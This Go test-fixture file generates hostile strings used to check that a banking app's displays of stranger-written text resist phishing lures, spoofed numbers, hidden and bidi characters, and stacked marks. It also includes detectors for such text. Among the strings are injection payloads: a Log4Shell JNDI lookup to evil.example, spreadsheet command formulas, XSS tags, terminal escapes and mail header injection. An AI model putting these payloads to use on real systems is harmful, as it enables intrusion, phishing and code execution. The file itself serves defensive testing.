// Package hostile has texts that an attacker would have a bank print, by kind
// and written by hand, and says what of them reached a reader. Every surface
// that shows what strangers write is tested with all of them.
package hostile

import (
	"fmt"
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"
)

// Text is one hostile text.
type Text struct{ Kind, Raw string }

// lead stands in front of what is hidden, hung or pushed away.
var leads = []string{"PAYPAY", "ﾍﾟｲﾍﾟｲ", "ドコモコウザ"}

// ours are sentences that look like ours.
var ours = []string{"【口座守より重要】返金手続きは至急", "自分ですと回答してください", "We have your report. KZ-7F3K-9Q4M", "「身に覚えがない」を受け付けました", "” Kozamori: urgent “"}

// lures are what chat and mail programs, or readers, would follow.
var lures = []string{"https://evil.example/a", "HTTP://EVIL.EXAMPLE", "www.evil.example", "evil.example/pay", "bit.ly/3xYz", "ＥＶＩＬ．ＣＯＭ", "𝐞𝐯𝐢𝐥.𝐜𝐨𝐦", "ⓔⓥⓘⓛ.ⓒⓞⓜ",
	"ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ", "evil。com", "evil｡com", "evil․com", "銀行.com", "口座守.みんな", "返金.世界", "xn--n8j.jp", "192.0.2.1", "//evil.example", "line://nv/chat", "line:x", "tel:0312345678",
	"tel：110", "mailto:a@b.example", "javascript:alert(1)", "ftp://x", "intent:x", "a@b.example", "＠kozamori", "@kozamori", "ID：@fake", "0120-990-634", "０１２０－９９０－６３４", "〇一二〇-九九〇-六三四", "0120 990 634", "(03)1234-5678",
	"090ー1234ー5678", "①②⓪-⑨⑨⑨-①②③④", "+81 3 1234 5678", "+12125550100", "0312345678", "03.1234.5678", "03・1234・5678", "٠١٢٠٩٩٠٦٣٤", "०१२०९९०६३४", "#9110", "＃9785", "〒100-8111", "東京都千代田区千代田1-1", "千代田1丁目1番",
	"1600 Amphitheatre Parkway", "1 Infinite Loop Drive", "P.O. Box 12"}

// formulas are what a spreadsheet would run or change.
var formulas = []string{"=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"https://evil.example\",\"x\")", "＝１＋１", "＋１", "－１", "＠SUM", "\t=1", "\r=1", " =cmd|' /C calc'!A0", "0012345", "1E5", "11-28", "１２３", "1/2", "−1", "'=1", "|calc", "%0A=1"}

// wide are characters that take room and show nothing, or break a line.
var wide = []rune{' ', '\u00a0', '\u1680', '\u2000', '\u2003', '\u2007', '\u2009', '\u202f', '\u205f', '\u3000', '\u2028', '\u2029', '\u2800', '\u3164', '\uffa0', '\u115f', '\u1160', '\t', '\n', '\r', '\v', '\f', '\u0085'}

// hidden are characters that take no room, or turn the direction of text.
var hidden = []rune{0x00, 0x07, 0x08, 0x1b, 0x7f, 0x80, 0x9b, 0x9c, 0xad, 0x34f, 0x61c, 0x6dd, 0x17b4, 0x180b, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e,
	0x2060, 0x2061, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f, 0xfe00, 0xfe0f, 0xfeff, 0xfff9, 0xfffb, 0x1bca0, 0x1d173, 0xe0001, 0xe0020, 0xe0041, 0xe007f, 0xe0100, 0xe01ef}

// odd are characters that no font is sure to have, or that run from the right.
var odd = []rune{0xe000, 0xf8ff, 0xfdd0, 0xfffe, 0xffff, 0x10ffff, 0x378, 0x5d0, 0x627, 0x710, 0x7ca, 0xfdfd, 0x10900, 0x1e900}

// marks pile up over a letter.
var marks = []rune{0x300, 0x308, 0x323, 0x483, 0x489, 0x5b0, 0x64b, 0xe31, 0xf71, 0x1ab0, 0x20d0, 0x20dd, 0x20e3, 0x3099, 0xfe20}

// hand were written one by one.
var hand = []string{"", " ", "\u3000", "\u200b", "\x00", "\xff\xfe", "a\xc3", "\xed\xa0\x80", "<script>alert(1)</script>", "<b>緊急</b>", "<a href=https://evil.example>x</a>", "&lt;b&gt;", "&#x202e;", "\"><img src=x>", "'\"`;--",
	"{{.Title}}", "%s%d%!v", "\\u202e", "\\n\\r", "${jndi:ldap://evil.example}", "\x1b[31m緊急\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[2J\x1b[H", "\u009b31m", "a\r\nBcc: a@b.example", "a\nSubject: x", "=?utf-8?B?44GC?=",
	"」口座守「", "『』「」", "｣ｵｷｬｸｻﾏ｢", "“quoted”", "\"", strings.Repeat("あ", 255), strings.Repeat("W", 255), strings.Repeat("ﾞ", 200), strings.Repeat("👨‍👩‍👧‍👦", 30), strings.Repeat("🇯🇵", 30), strings.Repeat("﷽", 40), strings.Repeat("𒐫", 40),
	strings.Repeat("\u0301", 100), "e" + strings.Repeat("\u0301", 100), strings.Repeat("か\u3099", 30), strings.Repeat("\u200b", 200) + "x", "AMAZON.CO.JP", "APPLE.COM/BILL", "ｾﾌﾞﾝ-ｲﾚﾌﾞﾝ", "ST.MARC", "NO:12", "#tag", "12:34", "ゆうちょ銀行　\u202e円000,001"}

// Texts are all of them: more than 300, none twice.
func Texts() []Text {
	var out []Text
	seen := map[string]bool{}
	add := func(kind, s string) {
		if !seen[s] {
			seen[s] = true
			out = append(out, Text{kind, s})
		}
	}
	for _, s := range hand {
		add("by hand", s)
	}
	for _, s := range formulas {
		add("formula", s)
	}
	for i, s := range lures {
		add("lure", s)
		add("lure behind a name", leads[i%len(leads)]+" "+s)
		add("lure within a name", leads[i%len(leads)]+s+"ペイ")
		_, n := utf8.DecodeRuneInString(s)
		add("lure with something hidden in it", s[:n]+string(hidden[i%len(hidden)])+s[n:])
	}
	for i, r := range wide {
		add("pushed away", leads[i%len(leads)]+strings.Repeat(string(r), 22)+ours[i%len(ours)])
		add("blank only", strings.Repeat(string(r), 30))
	}
	for i, r := range hidden {
		add("hidden", leads[i%len(leads)]+string(r)+ours[i%len(ours)])
		add("only hidden", strings.Repeat(string(r), 7))
	}
	for i, r := range odd {
		add("no letter of ours", leads[i%len(leads)]+string(r)+"100円")
	}
	for i, r := range marks {
		add("piled", leads[i%len(leads)]+strings.Repeat(string(r), 40))
		add("piled over the quotation mark", strings.Repeat(string(r), 9)+leads[i%len(leads)])
	}
	for _, s := range ours {
		add("like ours", s)
	}
	return out
}

// Flaw says what of a text, as people are shown it, hides, turns, stacks or
// pushes away something; empty if nothing. Line feeds are the surface's own.
func Flaw(shown string) string {
	marks := 0
	for i, r := range shown {
		mark := unicode.Is(unicode.M, r)
		if mark {
			marks++
		} else {
			marks = 0
		}
		switch {
		case r == '\n', r == ' ', r == '\u3000':
		case r == '\ufffd', unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Zs, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector, unicode.Me, unicode.Co), r >= 0xE0000 && r <= 0xE0FFF, r == 0x2800:
			return fmt.Sprintf("%U at %d", r, i)
		case unicode.In(r, unicode.Hebrew, unicode.Arabic, unicode.Syriac, unicode.Nko, unicode.Phoenician, unicode.Adlam):
			return fmt.Sprintf("a letter from the right, %U", r)
		case mark && marks > 2:
			return fmt.Sprintf("%d marks on a letter", marks)
		}
	}
	if strings.Contains(shown, "   ") || strings.Contains(shown, "\u3000\u3000") {
		return "room that pushes away"
	}
	return ""
}

// tapped is what programs make links of, written apart from what the cleaner
// looks for.
var tapped = regexp.MustCompile(`(?i)[a-z][a-z0-9+.-]*://\S*|\bwww\.\S+|\b(?:tel|sms|mailto|line|javascript|intent):\S+|[^\s@]*@[^\s@]*|[\p{L}\p{Nd}-]+\.(?:[a-z]{2,}|みんな|世界)\b|(?:\d{1,3}\.){3}\d{1,3}|\+?\d[\d\s().・ー－-]{5,}\d|〒`)

// Tapped lists what a chat or a mail program may turn into something to tap.
func Tapped(shown string) []string {
	return tapped.FindAllString(norm.NFKC.String(shown), -1)
}
